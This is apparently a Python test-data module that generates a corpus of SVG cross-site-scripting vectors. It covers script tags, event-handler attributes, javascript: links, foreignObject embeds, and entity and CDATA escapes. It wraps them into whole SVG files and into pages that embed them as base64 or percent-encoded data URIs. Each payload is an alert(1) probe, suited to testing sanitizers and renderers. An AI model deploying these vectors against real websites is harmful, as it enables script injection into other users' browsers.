"""Drawings (SVG) that try to run a script, as parts of an `svg` element and as whole files."""
import base64
import urllib.parse

SHAPE = "<path d='M0 0h99v99z' fill='red'/>"
PART = [
    "<script>alert(1)</script>",
    "<script href='data:text/javascript,alert(1)'/>",
    "<script xlink:href='data:text/javascript,alert(1)'/>",
    "<script type='text/ecmascript'><![CDATA[alert(1)]]></script>",
    "<h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(1)</h:script>",
    "<s:script xmlns:s='http://www.w3.org/2000/svg'>alert(1)</s:script>",
    "<g onclick='alert(1)' onload='alert(1)' onfocus='alert(1)' tabindex='1' autofocus=''><rect width='99' height='99'/></g>",
    "<svg onload='alert(1)'><rect width='9' height='9'/></svg>",
    "<animate onbegin='alert(1)' attributeName='x' dur='1s'/>",
    "<animate onend='alert(1)' attributeName='x' dur='1ms'/>",
    "<set onbegin='alert(1)' attributeName='x' to='1'/>",
    "<animateTransform onrepeat='alert(1)' attributeName='transform' type='scale' dur='1ms' repeatCount='9'/>",
    "<a id='x' href='#'><set attributeName='href' to='javascript:alert(1)'/><text y='20'>x</text></a>",
    "<a href='#'><animate attributeName='href' values='javascript:alert(1);#' begin='0s'/><text y='20'>x</text></a>",
    "<a xlink:href='javascript:alert(1)'><text y='20'>x</text></a>",
    "<a href='&#1;java&#10;script:alert(1)'><text y='20'>x</text></a>",
    "<a href='javascript&#58;alert(1)' target='_self'><rect width='9' height='9'/></a>",
    "<foreignObject width='9' height='9'><iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:alert(1)'/></foreignObject>",
    "<foreignObject><img xmlns='http://www.w3.org/1999/xhtml' src='x' onerror='alert(1)'/></foreignObject>",
    "<switch><foreignObject requiredFeatures='x'><video xmlns='http://www.w3.org/1999/xhtml' onerror='alert(1)' src='x'/></foreignObject><text>x</text></switch>",
    "<image href='x:' onerror='alert(1)' width='9' height='9'/>",
    "<image href='data:image/png;base64,iVBORw0KGgo=' onload='alert(1)' onerror='alert(1)'/>",
    "<image href='data:image/svg+xml,%3Csvg%20xmlns=%22http://www.w3.org/2000/svg%22%20onload=%22alert(1)%22/%3E'/>",
    "<use href='data:image/svg+xml,%3Csvg%20xmlns=%22http://www.w3.org/2000/svg%22%20id=%22x%22%20onload=%22alert(1)%22/%3E#x'/>",
    "<use href='#x'/><symbol id='x' onload='alert(1)'><script>alert(1)</script><rect onload='alert(1)'/></symbol>",
    "<feImage href='javascript:alert(1)'/>",
    "<filter id='f' onload='alert(1)'><feFlood onbegin='alert(1)'/></filter><rect filter='url(#f)' width='9' height='9'/>",
    "<style onload='alert(1)'>@import url(data:text/css,x);</style>",
    "<style>rect{fill:red}</style ><script>alert(1)</script>",
    "<style><![CDATA[</style><script>alert(1)</script>]]></style>",
    "<title><![CDATA[</title><script>alert(1)</script>]]></title>",
    "<desc>&lt;/desc>&lt;script>alert(1)&lt;/script></desc>",
    "<text>&lt;script>alert(1)&lt;/script></text><text>]]&gt;&lt;/text&gt;&lt;script&gt;alert(1)&lt;/script&gt;</text>",
    "<text x='&quot; onload=&quot;alert(1)' y='\" onload=\"alert(1)'>x</text>",
    "<g id='x&quot; onload=&quot;alert(1)' class='&quot;><script>alert(1)</script>'/>".replace("<script>", "&lt;script>").replace("</script>", "&lt;/script>"),
    "<g style='fill:red&quot; onload=&quot;alert(1)' fill='red&quot; onload=&quot;alert(1)'><rect/></g>",
    "<g d='&#x22;&#x3e;&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;'/>",
    "<handler xmlns='http://www.w3.org/2000/svg' type='text/javascript' ev:event='load' xmlns:ev='http://www.w3.org/2001/xml-events'>alert(1)</handler>",
    "<?xml-stylesheet type='text/xsl' href='data:text/xml,x'?>",
    "<math xmlns='http://www.w3.org/1998/Math/MathML'><mi href='javascript:alert(1)'>x</mi></math>",
    "<html xmlns='http://www.w3.org/1999/xhtml'><body onload='alert(1)'/></html>",
    "<discard onbegin='alert(1)'/>",
    "<iframe xmlns='http://www.w3.org/1999/xhtml' srcdoc='&lt;script>alert(1)&lt;/script>'/>",
    "<object xmlns='http://www.w3.org/1999/xhtml' data='javascript:alert(1)'/>",
]
SPACES = "xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"
FILE = [f"<svg {SPACES} width='300' height='200'>{SHAPE}{part}</svg>" for part in PART] + [
    f"<svg {SPACES} width='300' onload='alert(1)' onfocus='alert(1)' autofocus=''>{SHAPE}</svg>",
    f"<x:svg xmlns:x='http://www.w3.org/2000/svg' width='300' onload='alert(1)'><x:path d='M0 0h99v99z'/><x:script>alert(1)</x:script></x:svg>",
    f"<!DOCTYPE svg [<!ENTITY x '&#60;script>alert(1)&#60;/script>'>]><svg {SPACES} width='300'>{SHAPE}&x;</svg>",
    f"<!DOCTYPE svg [<!ATTLIST path onload CDATA 'alert(1)'>]><svg {SPACES} width='300'>{SHAPE}</svg>",
    f"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='#x'?><svg {SPACES} width='300'>{SHAPE}</svg>",
    f"<svg {SPACES} width='300'>{SHAPE}<script>alert(1)",
]


def pages(vectors):
    """Pages by name that show each drawing: in the text, and as addresses of pictures in several spellings."""
    for place, payload in enumerate(PART + vectors):
        yield f"part-{place:04}", (
            f"<figure><svg width=400 height=300 aria-label=x onload=alert(1)>{SHAPE}{payload}</svg></figure>")
    for place, payload in enumerate(FILE + [f"<svg {SPACES} width='300'>{SHAPE}{vector}</svg>" for vector in vectors]):
        text = payload.encode("utf-8", "surrogatepass")
        for name, data in {
            "base64": "data:image/svg+xml;base64," + base64.b64encode(text).decode(),
            "percent": "data:image/svg+xml," + urllib.parse.quote(text),
        }.items():
            yield f"file-{place:04}-{name}", f"<p><img width=400 alt=x src='{data}'></p>"
